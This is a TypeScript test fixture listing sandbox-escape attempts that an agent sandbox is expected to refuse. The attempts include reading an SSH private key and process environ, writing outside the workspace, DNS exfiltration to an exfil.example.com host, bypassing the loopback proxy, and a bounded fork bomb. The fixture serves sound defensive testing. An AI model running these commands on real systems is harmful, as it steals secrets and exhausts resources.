/**
 * The sandbox attack list the attack tests share: each attack (and each allowed action) is
 * a bash snippet printing `RESULT <name> ok|refused`, so a command stage, the agent's
 * shell, an MCP server and a CLI agent's own shell all run the same script.
 */
import { readdirSync, readFileSync } from 'node:fs';

export const SSH_SECRET = 'SSH-PRIVATE-KEY-do-not-leak';
export const OTHER_RUN_SECRET = 'other-run-secret-notes';

export interface Fixture {
  root: string;
  home: string;
  project: string;
  storage: string;
  outside: string;
  allowedPort: number;
  deniedPort: number;
  daemonMark: string;
}

/** The attacks and the allowed actions, each a bash snippet printing `RESULT <name> ok|refused`. */
export function attacks(f: Fixture, vector: string): { name: string; expect: 'ok' | 'refused'; script: string }[] {
  const tryIt = (name: string, command: string) =>
    `if out=$( { ${command} ; } 2>&1 ); then echo "RESULT ${name} ok $out"; else echo "RESULT ${name} refused"; fi`;
  return [
    { name: 'write-outside', expect: 'refused', script: tryIt('write-outside', `echo pwned > ${f.outside}/${vector}.txt`) },
    { name: 'write-through-symlink', expect: 'refused', script: tryIt('write-through-symlink', `echo pwned > ${f.project}/planted-link`) },
    { name: 'read-ssh-key', expect: 'refused', script: tryIt('read-ssh-key', `cat ${f.home}/.ssh/id_ed25519`) },
    {
      name: 'read-weft-database',
      expect: 'refused',
      script: tryIt('read-weft-database', `ls ${f.storage} && head -c 100 ${f.storage}/*.db`),
    },
    { name: 'read-other-run', expect: 'refused', script: tryIt('read-other-run', `cat ${f.storage}/workspaces/01OTHERRUN/notes.txt`) },
    {
      name: 'loopback-not-allowed',
      expect: 'refused',
      script: tryIt('loopback-not-allowed', `curl -fsS -m 5 http://127.0.0.1:${f.deniedPort}/`),
    },
    {
      name: 'loopback-without-proxy',
      expect: 'refused',
      script: tryIt('loopback-without-proxy', `curl -fsS -m 5 --noproxy '*' http://127.0.0.1:${f.allowedPort}/`),
    },
    { name: 'dns-exfiltration', expect: 'refused', script: tryIt('dns-exfiltration', `getent hosts secret-${vector}.exfil.example.com`) },
    { name: 'weft-environ', expect: 'refused', script: tryIt('weft-environ', `cat /proc/${process.pid}/environ`) },
    {
      name: 'fork-bomb',
      expect: 'refused',
      // Forks until the kernel refuses (bounded) or 2000 processes exist (unbounded), then ends them all.
      script: `python3 -c "
import os, signal, sys
pids = []
while len(pids) < 2000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        signal.pause()
        os._exit(0)
    pids.append(pid)
for pid in pids:
    os.kill(pid, signal.SIGKILL)
for pid in pids:
    os.waitpid(pid, 0)
sys.stdout.write(str(len(pids)))
" > /tmp/forks 2>/dev/null; n=$(cat /tmp/forks); if [ "$n" -lt 2000 ]; then echo "RESULT fork-bomb refused $n"; else echo "RESULT fork-bomb ok $n"; fi`,
    },
    {
      name: 'daemon',
      expect: 'ok',
      script: `setsid nohup bash -c 'exec -a ${f.daemonMark}-${vector} sleep 300' >/dev/null 2>&1 & echo "RESULT daemon ok"`,
    },
    {
      name: 'write-workspace',
      expect: 'ok',
      script: tryIt('write-workspace', `echo mine > ${f.project}/${vector}-allowed.txt && cat ${f.project}/${vector}-allowed.txt`),
    },
    { name: 'read-project', expect: 'ok', script: tryIt('read-project', `cat ${f.project}/README.md`) },
    { name: 'allowed-host', expect: 'ok', script: tryIt('allowed-host', `curl -fsS -m 5 http://127.0.0.1:${f.allowedPort}/`) },
  ];
}

export function script(f: Fixture, vector: string): string {
  // The last two attempts leave their errors on the process's own stderr, where weft reads refusals from.
  return `${attacks(f, vector)
    .map((attack) => attack.script)
    .join('\n')}\ncat ${f.home}/.ssh/id_ed25519 >/dev/null; echo pwned > /usr/weft-sandbox-${vector}\ntrue\n`;
}

export function results(text: string): Record<string, string> {
  return Object.fromEntries([...text.matchAll(/^RESULT (\S+) (ok|refused)/gm)].map((match) => [match[1]!, match[2]!]));
}

export function daemonsAlive(mark: string): string[] {
  const alive: string[] = [];
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(mark)) alive.push(pid);
    } catch {
      // gone meanwhile
    }
  }
  return alive;
}
